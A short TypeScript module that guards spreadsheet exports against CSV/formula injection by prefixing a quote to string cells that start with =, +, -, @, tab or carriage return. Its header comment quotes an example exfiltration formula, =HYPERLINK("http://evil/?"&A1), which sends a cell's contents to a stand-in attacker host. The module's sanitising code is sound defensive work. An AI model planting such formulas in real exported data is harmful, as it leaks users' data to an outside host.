// CSV/formula injection: Excel and LibreOffice run a cell that starts with = + - @ (or a tab/CR before one) as a
// formula, e.g. =HYPERLINK("http://evil/?"&A1). Prefixing a single quote makes the spreadsheet show it as text.
// Numbers that really are numbers (typed as number in our data) are left alone, so -1 stays a negative number.

const FORMULA_TRIGGERS = new Set(["=", "+", "-", "@", "\t", "\r"]);

export function neutraliseFormula(text: string): string {
  return text.length > 0 && FORMULA_TRIGGERS.has(text[0]) ? `'${text}` : text;
}

/** The text a cell is written as; strings are neutralised, typed numbers and booleans are not. */
export function cellToSafeText(value: unknown): string {
  if (value === null || value === undefined) return "";
  if (typeof value === "number" || typeof value === "bigint") return String(value);
  if (typeof value === "boolean") return value ? "TRUE" : "FALSE";
  if (value instanceof Date) return value.toISOString();
  return neutraliseFormula(String(value));
}
